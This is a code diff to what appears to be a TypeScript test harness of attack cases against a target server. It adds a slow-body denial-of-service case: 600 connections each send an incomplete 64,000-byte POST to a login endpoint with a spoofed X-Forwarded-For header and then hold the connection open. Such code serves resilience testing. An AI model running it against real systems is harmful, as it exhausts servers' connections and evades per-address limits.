@@ -1,5 +1,5 @@
 import type { Attack } from "../target.ts";
-import { ask, head, pause, repeat, tcp } from "../tools.ts";
+import { ask, head, pause, relative, repeat, tcp } from "../tools.ts";
 
 const WRONG = "chat.v1, bearer.not-a-token";
 const upgrade = {
@@ -47,6 +47,22 @@ export const connections: readonly Attack[] = [
           line.write(" ");
           await pause(means.over, 500);
         }
+      }),
+  },
+  {
+    name: "600 large bodies that stop before their end, from one site",
+    play: (means) =>
+      repeat(means, 600, async () => {
+        const line = await tcp(means);
+        line.write(
+          head(means.target, "POST /account/login/ HTTP/1.1", {
+            "Content-Type": "application/json",
+            "Content-Length": "64000",
+            "X-Forwarded-For": relative(),
+          }) + " ".repeat(63_999),
+        );
+        means.tally.count("bodies");
+        while (!means.over.aborted && !line.destroyed) await pause(means.over, 500);
       }),
   },
   {
